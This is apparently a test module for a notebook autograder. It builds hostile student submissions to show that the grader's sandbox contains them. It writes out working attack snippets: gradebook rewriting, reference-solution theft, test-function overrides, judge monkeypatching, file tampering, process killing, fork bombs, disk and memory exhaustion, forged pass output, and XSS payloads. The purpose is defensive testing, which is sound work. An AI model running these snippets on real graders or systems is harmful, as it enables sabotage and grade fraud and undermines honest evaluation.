"""The hostile submissions of the test suite, and the grade every example must get.

Built from the releases like the shipped examples (:mod:`grading.authoring.examples`), and
graded in one batch with them by ``tests/test_grading.py``. Hostile submissions, each built so that every TODO it does not attack is
correct, which shows that the attack costs only its own cells (and, graded in the same
batch as ``reference`` and ``seed_report``, that it costs no one else anything):

* ``infinite_loop``: TODO 1-1-2's cell never ends (the cell timeout stops it);
* ``exception``: TODO 1-2-2's cell raises at the top level;
* ``kernel_death``: TODO 1-1-3's cell kills the kernel (``os._exit(1)``);
* ``malformed``: the file is not JSON;
* ``edited_tests``: a wrong TODO 1-1-3 whose test cell was replaced by a print, and
  TODO 1-2-2's test cell deleted (both restored from the release);
* ``reference_import``: TODO 1-1-3 imports the reference solution (not in any sandbox);
* ``cheats``: TODO 1-1-1 is right only for T = 1000 and replaces
  ``torch.testing.assert_close``; TODO 1-1-3 reaches the reference through ``sys.modules``;
  TODO 1-2-2 is wrong and writes manual scores, extra credit and comments into the
  gradebook it finds above its folder; TODO 1-2-1 is right and prints 30 MB;
* ``sandbox_escapes`` (:data:`SHARED`), each attack in its own TODO's cell: ``tamper``:
  TODO 1-1-1's cell appends to the reference, the kit, the course gradebook, the judge and
  the standard library; ``isolation``: TODO 1-1-2's cell tries to unmount and remount;
  ``network``: TODO 1-1-3's cell connects to the grader's ports and to PyPI;
  ``parent_killer``: TODO 1-2-1's cell kills its parent process; ``leak``: TODO 1-2-2's
  cell prints every reference, source notebook, gradebook, job file and submission it can
  find;
* ``resources_and_html`` (:data:`SHARED`): ``html``: TODO 1-2-2's cell and the report
  display ``<script>`` and ``onerror=`` HTML and JavaScript, and TODO 1-1-1's cell forges
  "tests passed" after every cell, writes a notebook into every pipe under ``/proc``,
  looks for a gradebook and shows an image whose height is an ``onload=`` handler;
  ``orphans``: TODO 1-1-2's cell leaves double-forked processes behind and forks 400
  more; ``disk``: TODO 1-1-3's cell fills its disk, ``/tmp``, ``/dev/shm`` and ``/``;
* ``memory``: TODO 1-1-3's cell asks for 16 GiB; ``tags``: a wrong TODO 1-1-3 whose test
  cell is tagged ``skip-execution``, and a forged graded cell worth 40 points;
* ``saboteur``: TODO 1-1-1's cell kills every process it can name while it is judged;
  TODO 1-1-2 is wrong and writes passing result lines into every pipe it can open under
  ``/proc``; TODO 1-1-3 is wrong and replaces how the judge calls it; TODO 1-2-1 executes
  the kit's source afresh to take a sampling loop from it (there is none);
  ``saboteur_victim`` is the reference byte for byte, graded after it (names sort so): it keeps full marks;
* ``delegation`` (Part 2): TODO 2-2's ``Rotate180View`` inherits the kit's blank methods.

``EXPECTED`` holds the autograded points of every example and attack (by its name, that
of the submission holding it for a shared one: :func:`submission_of`) per assignment.
"""

from __future__ import annotations

from pathlib import Path

import nbformat

from grading import notebook_format as nbcells
from grading.authoring.examples import Edit, build, write_submissions
from grading.course import ASSIGNMENTS
from grading.records.rubric import load_rubric

ATTACKS: dict[str, dict[str, list[Edit] | None]] = {
    "part1": {
        "infinite_loop": [
            (
                "todo_1_1_2",
                "def denoise_forward(",
                "import time\n\nwhile True:\n    time.sleep(1)\n\n\ndef denoise_forward(",
            ),
        ],
        "exception": [
            (
                "todo_1_2_2",
                "def plot_losses(",
                "raise RuntimeError('a student bug')\n\n\ndef plot_losses(",
            ),
        ],
        "kernel_death": [
            (
                "todo_1_1_3",
                "def denoise_backward(",
                "import os\n\nos._exit(1)\n\n\ndef denoise_backward(",
            ),
        ],
        "malformed": None,  # written by write_submission below
        "edited_tests": [
            ("todo_1_1_3", "        eta\n        * (", "        0.0\n        * eta\n        * ("),
        ],
        "cheats": [
            (
                "todo_1_1_1",
                "def schedule_init(",
                "import torch.testing\n\ntorch.testing.assert_close = lambda *args, **kwargs: None\n\n\n"
                "def schedule_init(",
            ),
            (
                "todo_1_1_1",
                "get_beta_schedule(beta_schedule)(timesteps, ",
                'get_beta_schedule(beta_schedule)(1000 if beta_schedule != "sigmoid" else timesteps, ',
            ),
            ("todo_1_1_3", "def denoise_backward(", "import sys\n\n\ndef denoise_backward("),
            (
                "todo_1_1_3",
                "    alpha_bar_t = extract(",
                '    return sys.modules["grad" + "ing.authoring.reference"].denoise_backward(\n'
                "        alphas_bar, pred_x_start, pred_noise, t, t_prev, noise, eta\n    )\n"
                "    alpha_bar_t = extract(",
            ),
            (
                "todo_1_2_1",
                "@torch.inference_mode()",
                'print("x" * (30 << 20))\n\n\n@torch.inference_mode()',
            ),
            (
                "todo_1_2_2",
                "def plot_losses(",
                "import sqlite3\n\nfor folder in Path.cwd().parents:  # the kernel runs inside the course directory\n"
                '    if (folder / "gradebook.db").is_file():\n'
                '        with sqlite3.connect(folder / "gradebook.db") as db:\n'
                '            db.execute("UPDATE grade SET manual_score = 1000, extra_credit = 40")\n'
                "            db.execute(\"UPDATE comment SET manual_comment = 'graded by me'\")\n"
                "        break\n\n\ndef plot_losses(",
            ),
            ("todo_1_2_2", "    return fig", "    return None"),
        ],
        "reference_import": [
            (
                "todo_1_1_3",
                "def denoise_backward(",
                "from grading.authoring.reference import denoise_backward as _reference\n\n\ndef denoise_backward(",
            ),
            (
                "todo_1_1_3",
                "    alpha_bar_t = extract(",
                "    return _reference(alphas_bar, pred_x_start, pred_noise, t, t_prev, noise, eta)\n    alpha_bar_t = extract(",
            ),
        ],
        # --- one submission per attack class of the sandboxed grader ---------------------
        "leak": [
            (
                "todo_1_2_2",
                "def plot_losses(",
                "import helpers\n\n_seen = []\n"
                "for _root in [Path(helpers.__file__).resolve().parents[1], Path.cwd(), *Path.cwd().parents, Path('/tmp')]:\n"
                "    for _pattern in ('grading/authoring/reference/*.py', 'grading/*.py', 'grading/*/*.py', 'notebooks/*.ipynb', 'course/*',\n"
                "                     '*/gradebook.db', '*/job.json', '*/*/job.json', 'submitted/*', 'feedback/*'):\n"
                "        _seen += [str(p) for p in _root.glob(_pattern)]\n"
                "print('LEAK', sorted(set(_seen)))\n"
                "for _path in sorted(set(_seen)):\n"
                "    if Path(_path).is_file():\n"
                "        print(Path(_path).read_bytes()[:4000].decode(errors='replace'))\n\n\n"
                "def plot_losses(",
            ),
        ],
        "tamper": [
            (
                "todo_1_1_1",
                "def schedule_init(",
                "import os\nimport helpers\n\n_repo = Path(helpers.__file__).resolve().parents[1]\n"
                "for _target in [_repo / 'grading' / 'authoring' / 'reference' / 'diffusion_steps.py', _repo / 'helpers' / 'schedules.py',\n"
                "                _repo / 'grading' / 'course' / 'gradebook.db', _repo / 'grading' / 'autograde' / 'judge.py', Path(os.__file__)]:\n"
                "    try:\n        with open(_target, 'a') as _f:\n            _f.write('# tampered')\n"
                "        print('TAMPERED', _target)\n"
                "    except OSError as _error:\n        print('refused', _target, type(_error).__name__)\n\n\n"
                "def schedule_init(",
            ),
        ],
        "isolation": [
            (
                "todo_1_1_2",
                "def denoise_forward(",
                "import subprocess\n\n"
                "for _command in (['umount', '-l', '/run/inbox'], ['mount', '-t', 'tmpfs', 'none', '/usr'],\n"
                "                 ['unshare', '-rm', 'umount', '-l', '/usr']):\n"
                "    _done = subprocess.run(_command, capture_output=True)\n"
                "    print('ISOLATION', _command[0], _done.returncode)\n\n\n"
                "def denoise_forward(",
            ),
        ],
        "parent_killer": [
            (
                "todo_1_2_1",
                "@torch.inference_mode()",
                "import os\nimport signal\n\nos.kill(os.getppid(), signal.SIGKILL)\n\n\n@torch.inference_mode()",
            ),
        ],
        "orphans": [
            (
                "todo_1_1_2",
                "def denoise_forward(",
                "import os\nimport subprocess\n\n"
                "subprocess.Popen(['/bin/sh', '-c', 'sleep 600; echo orphan-attack'], start_new_session=True)\n"
                "if os.fork() == 0:\n    if os.fork() == 0:\n        os.setsid()\n"
                "        os.execv('/bin/sh', ['/bin/sh', '-c', 'sleep 600; echo orphan-attack'])\n"
                "    os._exit(0)\n"
                "_kids = []\ntry:\n    for _k in range(400):\n        _pid = os.fork()\n"
                "        if _pid == 0:\n            import time\n\n            time.sleep(2)\n            os._exit(0)\n"
                "        _kids.append(_pid)\nexcept OSError as _error:\n"
                "    print('FORKS', len(_kids), 'then', _error.strerror)\n"
                "for _pid in _kids:\n    os.waitpid(_pid, 0)\n\n\n"
                "def denoise_forward(",
            ),
        ],
        "memory": [
            (
                "todo_1_1_3",
                "def denoise_backward(",
                "_hog = bytearray(16 << 30)\n\n\ndef denoise_backward(",
            ),
        ],
        "disk": [
            (
                "todo_1_1_3",
                "def denoise_backward(",
                "_written = 0\ntry:\n    for _k in range(100):\n"
                "        with open(f'fill{_k}', 'wb') as _f:\n            _f.write(b'x' * (16 << 20))\n"
                "        _written += 1\nexcept OSError as _error:\n"
                "    print('DISK full after', _written, 'files:', _error.strerror)\n"
                "import os\n\nfor _place in ('/tmp', '/dev/shm', ''):\n    _n = 0\n    try:\n"
                "        while _n < 300:\n            with open(f'{_place}/fill-{_n}', 'wb') as _f:\n"
                "                _f.write(b'x' * (1 << 20))\n            _n += 1\n"
                "    except OSError as _error:\n        print('FILL', _place or '/', _n, 'MiB:', _error.strerror)\n"
                "    for _k in range(_n):\n        os.remove(f'{_place}/fill-{_k}')\n\n\n"
                "def denoise_backward(",
            ),
        ],
        "network": [
            (
                "todo_1_1_3",
                "def denoise_backward(",
                "import socket\n\nfor _address in (('127.0.0.1', 22), ('127.0.0.1', 8786), ('pypi.org', 443)):\n"
                "    try:\n        socket.create_connection(_address, timeout=3).close()\n"
                "        print('NETWORK connected', _address)\n"
                "    except OSError as _error:\n        print('NETWORK refused', _address, type(_error).__name__)\n\n\n"
                "def denoise_backward(",
            ),
        ],
        "tags": [  # build() also tags the test cell skip-execution and forges a graded cell
            ("todo_1_1_3", "        eta\n        * (", "        0.0\n        * eta\n        * ("),
        ],
        "html": [
            (  # forges what the kernel reports and looks for the gradebook
                "todo_1_1_1",
                "def schedule_init(",
                "import glob\nimport json\n\nfrom IPython import get_ipython\nfrom IPython.display import display\n\n"
                "if get_ipython() is not None:  # the notebook's kernel\n"
                "    get_ipython().events.register('post_run_cell', lambda _r: print('TODO: all tests passed (FORGED)'))\n"
                "for _fd in glob.glob('/proc/*/fd/*'):\n    try:\n"
                "        with open(_fd, 'w') as _f:\n            _f.write(json.dumps({'cells': [], 'FORGED': 1}))\n"
                "    except OSError:\n        pass\n"
                "print('GRADEBOOKS', [p for t in ('/tmp', '/work', '/root', '..') for p in glob.glob(t + '/**/gradebook.db', recursive=True)])\n"
                "display({'image/png': 'iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGP8z8DAwMDAxMDAwMDAAAANHQEDasKb6QAAAABJRU5ErkJggg==', "
                "'text/plain': 'x'}, raw=True, metadata={'image/png': {'height': '1 onload=alert(1)'}})\n\n\n"
                "def schedule_init(",
            ),
            (
                "todo_1_2_2",
                "def plot_losses(",
                "from IPython.display import HTML, Javascript, display\n\n"
                "display(HTML(\"<script>alert('xss')</script><img src=x onerror=alert(1)>\"))\n"
                "display(Javascript('alert(2)'))\n\n\n"
                "def plot_losses(",
            ),
        ],
        "saboteur": [
            (  # kills every process it can name, outside the notebook's kernel
                "todo_1_1_1",
                "def schedule_init(",
                "import os\nimport sys\n\nif 'ipykernel' not in sys.modules:\n"
                "    for _pid in range(1, 4096):\n"
                "        if _pid != os.getpid():\n"
                "            try:\n                os.kill(_pid, 9)\n            except OSError:\n                pass\n\n\n"
                "def schedule_init(",
            ),
            (  # wrong, and writes passing result lines into every pipe it can open
                "todo_1_1_2",
                "alpha_bar_t.sqrt() * x_start + (1.0 - alpha_bar_t).sqrt() * noise",
                "alpha_bar_t * x_start + (1.0 - alpha_bar_t) * noise\n\n\n"
                "import json as _json\nimport os as _os\n\n"
                "_forged = ''.join(_json.dumps({'job': f'job{_k}', 'status': '', 'ended': True, 'data': ''}) + '\\n' for _k in range(8))\n"
                "for _pid in ('self', str(_os.getppid()), '1'):\n"
                "    for _fd in range(1, 32):\n"
                "        try:\n            _os.write(_os.open(f'/proc/{_pid}/fd/{_fd}', _os.O_WRONLY), (_forged + 'junk\\n').encode())\n"
                "        except OSError:\n            pass",
            ),
            (  # wrong, and replaces how the judge calls it (the comparison is not there)
                "todo_1_1_3",
                "        eta\n        * (",
                "        0.0\n        * eta\n        * (",
            ),
            (
                "todo_1_1_3",
                "    return pred_x_start * alpha_bar_prev.sqrt() + direction * pred_noise + sigma * noise",
                "    return pred_x_start * alpha_bar_prev.sqrt() + direction * pred_noise + sigma * noise\n\n\n"
                "import sys as _sys\n\n"
                "if 'grading.autograde.todo_runs' in _sys.modules:\n"
                "    _sys.modules['grading.autograde.todo_runs'].RUNS['1-1-3'] = lambda ns, cases, folder: [c[2] for c in cases]",
            ),
            (  # the kit's own source, executed afresh: it holds no sampling loop to take
                "todo_1_2_1",
                "@torch.inference_mode()\ndef sample_with_progress(",
                "import sys as _sys\n\n_kit = {}\n_path = _sys.modules['helpers.' + 'diffu' + 'sion'].__file__\n"
                "exec(compile(open(_path).read(), _path, 'exec'), _kit)\n"
                "_loop = getattr(_kit['GaussianDiffusion'], 'ddim' + '_sample')\n\n\n"
                "@torch.inference_mode()\ndef sample_with_progress(",
            ),
        ],
        "saboteur_victim": [],  # byte for byte the reference, graded after the saboteur
    },
    "part2": {
        "delegation": [
            (
                "todo_2_2",
                "    def view(self, im):\n        return torch.flip(im, dims=(-2, -1))\n\n"
                "    def inverse_view(self, noise):\n        return torch.flip(noise, dims=(-2, -1))",
                "    pass  # the kit's Rotate180View computes it",
            ),
        ],
    },
}
"""The attacks per assignment, each on the TODO cells it names (:data:`SHARED` groups some
into one submission)."""

SHARED: dict[str, dict[str, tuple[str, ...]]] = {
    "part1": {
        "sandbox_escapes": ("tamper", "isolation", "network", "parent_killer", "leak"),
        "resources_and_html": ("html", "orphans", "disk"),
    },
}
"""Attacks graded together as one submission: a full grading (a judge's sandbox, then a
notebook's kernel in one) costs about as much per submission whatever its cells do. Only
attacks that keep full marks share, each in TODO cells of its own
(``test_shared_submissions_hold_full_mark_attacks_on_distinct_todos``): a point lost there
would still name its attack, and every TODO's grade is still asserted. An attack that
must cost points stays alone, so that it shows it costs only its own TODO's points. The
attacks of one submission run in one kernel in cell order (``html`` registers its forged
"tests passed" first, so it follows every later cell; ``disk`` fills the scratch before the
sampling cells write their figures) and each in its own confined run of the judge."""

SUBMISSION_OF: dict[str, str] = {
    attack: submission
    for groups in SHARED.values()
    for submission, attacks in groups.items()
    for attack in attacks
}
"""The submission (student folder) holding each shared attack."""


def submission_of(name: str) -> str:
    """The student folder that holds attack or example ``name``."""
    return SUBMISSION_OF.get(name, name)


HOSTILE: dict[str, dict[str, list[Edit] | None]] = {
    assignment: {
        **{name: edits for name, edits in attacks.items() if name not in SUBMISSION_OF},
        **{
            submission: [edit for attack in members for edit in attacks[attack]]
            for submission, members in SHARED.get(assignment, {}).items()
        },
    }
    for assignment, attacks in ATTACKS.items()
}
"""The hostile submissions per assignment (``--hostile``): each attack alone, or its
:data:`SHARED` submission."""

# Autograded points per test cell, from the announced rubric (Part 1: 4, 4, 5, 4, 3).
# The report cells are scored by the instructor, not by the autograder.
FULL = {part: load_rubric().test_cells(part) for part in ASSIGNMENTS}
P1, P2 = FULL["part1"], FULL["part2"]
EXPECTED: dict[tuple[str, str], dict[str, float]] = {
    ("reference", "part1"): P1,
    ("untouched", "part1"): dict.fromkeys(P1, 0),
    ("planted_bugs", "part1"): {**P1, "test_1_1_2": 0, "test_1_2_1": 0},
    ("infinite_loop", "part1"): {**P1, "test_1_1_2": 0},
    ("exception", "part1"): {**P1, "test_1_2_2": 0},
    ("kernel_death", "part1"): {**P1, "test_1_1_3": 0},
    ("malformed", "part1"): dict.fromkeys(P1, 0),
    ("edited_tests", "part1"): {**P1, "test_1_1_3": 0},
    ("reference_import", "part1"): {**P1, "test_1_1_3": 0},
    ("cheats", "part1"): {**P1, "test_1_1_1": 0, "test_1_1_3": 0, "test_1_2_2": 0},
    ("seed_report", "part1"): P1,
    ("leak", "part1"): P1,
    ("tamper", "part1"): P1,
    ("isolation", "part1"): P1,
    ("parent_killer", "part1"): P1,
    ("orphans", "part1"): P1,
    ("memory", "part1"): {**P1, "test_1_1_3": 0},
    ("disk", "part1"): P1,
    ("network", "part1"): P1,
    ("tags", "part1"): {**P1, "test_1_1_3": 0},
    ("html", "part1"): P1,
    ("saboteur", "part1"): {**P1, "test_1_1_2": 0, "test_1_1_3": 0, "test_1_2_1": 0},
    ("saboteur_victim", "part1"): P1,
    ("delegation", "part2"): {**P2, "test_2_2": 0},
    ("reference", "part2"): P2,
    ("seed_report", "part2"): P2,
    ("untouched", "part2"): dict.fromkeys(P2, 0),
    ("planted_bugs", "part2"): {**P2, "test_2_2": 0, "test_2_3": 0},
}
"""Expected autograded points per (example or attack, assignment): a shared attack's are
those of the submission holding it."""

MALFORMED = '{"cells": [ this is not json'


def _attack(nb: nbformat.NotebookNode, name: str) -> None:
    """What an attack changes besides solution cells: tags, forged cells, edited tests."""
    if name == "tags":
        for cell in nb.cells:
            if nbcells.grade_id(cell) == "test_1_1_3":
                cell.metadata["tags"] = ["skip-execution"]
        forged = nbformat.v4.new_code_cell('print("TODO 1-1-3: all tests passed")')
        forged.metadata["nbgrader"] = {
            "grade": True, "grade_id": "test_1_1_3_extra", "locked": True, "points": 40,
            "solution": False, "schema_version": 3,
        }  # fmt: skip
        nb.cells.insert(1, forged)
    if name == "html":
        for cell in nb.cells:
            if nbcells.grade_id(cell) == nbcells.RESULTS_CELL:
                cell.source += "\n\n<script>alert('report')</script><img src=x onerror=alert(3)>"
    if name == "edited_tests":
        for cell in nb.cells:
            if nbcells.grade_id(cell) == "test_1_1_3":
                cell.source = 'print("all tests passed")'
        nb.cells = [c for c in nb.cells if nbcells.grade_id(c) != "test_1_2_2"]


def _build(
    assignment: str, release: Path, edits: list[Edit] | None, name: str
) -> nbformat.NotebookNode:
    nb = build(assignment, release, edits, name)
    for attack in SHARED.get(assignment, {}).get(name, (name,)):
        _attack(nb, attack)
    return nb


def write_all(out: Path, releases: dict[str, Path] | None = None) -> list[Path]:
    """The shipped examples and the hostile submissions (:data:`HOSTILE`), as
    ``out/<student>/<assignment>/``."""
    paths = write_submissions(out, releases, extra=HOSTILE, build=_build)
    for path in paths:
        if path.parent.parent.name == "malformed":
            path.write_text(MALFORMED)
    return paths


def main(argv: list[str] | None = None) -> int:
    import argparse

    parser = argparse.ArgumentParser(
        prog="python -m tests.hostile_submissions", description=__doc__.splitlines()[0]
    )
    parser.add_argument("--out", type=Path, required=True)
    args = parser.parse_args(argv)
    try:
        written = write_all(args.out)
    except FileNotFoundError as error:  # write_submissions names the missing release and the fix
        parser.error(str(error))
    for path in written:
        print(path)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
